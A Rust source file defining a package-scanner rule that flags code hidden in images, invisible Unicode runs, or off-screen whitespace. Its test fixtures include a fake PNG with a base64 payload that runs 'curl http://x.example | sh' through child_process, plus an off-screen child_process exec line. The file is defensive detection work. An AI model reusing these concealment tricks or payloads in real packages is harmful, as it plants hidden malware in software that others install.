//! Rule `hidden-code-in-non-js`.

use crate::decode;
use crate::js::looks_like_code;
use crate::model::Severity;
use crate::package::{FileKind, Package};
use crate::rules::Emitter;

crate::declare_rule! {
    /// Code where nobody looks: script text or base64-encoded code inside images and other data
    /// files, long runs of invisible Unicode (variation selectors, tag characters, zero-width
    /// characters) that decode to a payload, and code pushed off-screen by hundreds of spaces on
    /// one line.
    id: "hidden-code-in-non-js",
    category: Other,
    severity: High,
    capability: None,
    title: "code hidden in images, invisible characters or whitespace",
    incident: "os-info-checker-es6 (2025) hid its loader in invisible Unicode; @react-native-aria/focus 0.2.10 (2025) pushed a RAT off-screen with spaces",
    case_file: "index.js",
    flag: ["=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== assets/logo.png\n\u{89}PNG\r\n\u{1a}\n....tEXtComment\0cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImN1cmwgaHR0cDovL3guZXhhbXBsZSB8IHNoIik7IHZhciB4ID0gMTs=",
           "const s = `\u{FE00}\u{FE01}\u{FE02}\u{FE03}\u{FE04}\u{FE05}\u{FE06}\u{FE07}\u{FE08}\u{FE09}\u{FE0A}\u{FE0B}\u{FE0C}\u{FE0D}\u{FE0E}\u{FE0F}\u{FE00}\u{FE01}\u{FE02}\u{FE03}\u{FE04}\u{FE05}\u{FE06}\u{FE07}`",
           "module.exports = x;                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                  ;require('child_process').exec(c)"],
    pass: ["=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== assets/logo.png\n\u{89}PNG\r\n\u{1a}\n....IDATxxxx", "const flag = '\u{1F1FA}\u{1F1F8}'", "/*\n                                        indented comment\n*/"],
}

fn invisible(c: char) -> bool {
    matches!(c as u32, 0xFE00..=0xFE0F | 0xE0100..=0xE01EF | 0xE0000..=0xE007F | 0x200B..=0x200D | 0x2060..=0x2064 | 0x3164 | 0xFFA0 | 0x115F | 0x1160)
}

fn check(pkg: &Package, out: &mut Emitter) {
    let b64 = crate::regex!(r"[A-Za-z0-9+/]{60,}={0,2}");
    for f in pkg.files.iter().filter(|f| f.script.is_none()) {
        match f.kind {
            FileKind::Image | FileKind::Binary
                if crate::package::native_format(&f.bytes).is_none() =>
            {
                let lossy = String::from_utf8_lossy(&f.bytes);
                let plain = [
                    "require(",
                    "child_process",
                    "eval(",
                    "new Function",
                    "process.env",
                ]
                .iter()
                .find(|k| lossy.contains(*k));
                if let Some(k) = plain {
                    out.whole(
                        Severity::High,
                        &f.path,
                        format!("a {:?} file contains script text ({k})", f.kind).to_lowercase(),
                        *k,
                    );
                    continue;
                }
                if let Some(m) = b64
                    .find_iter(&lossy)
                    .find(|m| decode::decode_text(m.as_str()).is_some_and(|t| looks_like_code(&t)))
                {
                    let t = decode::decode_text(m.as_str()).unwrap_or_default();
                    out.whole(
                        Severity::High,
                        &f.path,
                        "an image or data file carries base64-encoded code",
                        crate::package::one_line(&t),
                    );
                }
            }
            FileKind::Js
            | FileKind::Json
            | FileKind::Markdown
            | FileKind::Text
            | FileKind::Shell => {
                // Invisible characters: count the longest run.
                let mut run = 0usize;
                let mut best = (0usize, 0usize);
                for (i, c) in f.text.char_indices() {
                    if invisible(c) {
                        run += 1;
                        if run > best.0 {
                            best = (run, i);
                        }
                    } else {
                        run = 0;
                    }
                }
                if best.0 >= 16 {
                    out.hit(
                        pkg,
                        f,
                        best.1 as u32,
                        format!(
                            "{} invisible Unicode characters in a row (an encoded payload)",
                            best.0
                        ),
                    );
                    continue;
                }
                if f.kind == FileKind::Js {
                    // Code after a long run of spaces on one line.
                    let re = crate::regex!(r"[;,)}\]] {300,}[^ \n\r\t]");
                    if let Some(m) = re.find(&f.text) {
                        let end = m.end().saturating_sub(1);
                        out.hit(
                            pkg,
                            f,
                            end as u32,
                            format!(
                                "code pushed off-screen after {} spaces",
                                m.as_str().len() - 2
                            ),
                        );
                    }
                }
            }
            _ => {}
        }
    }
}
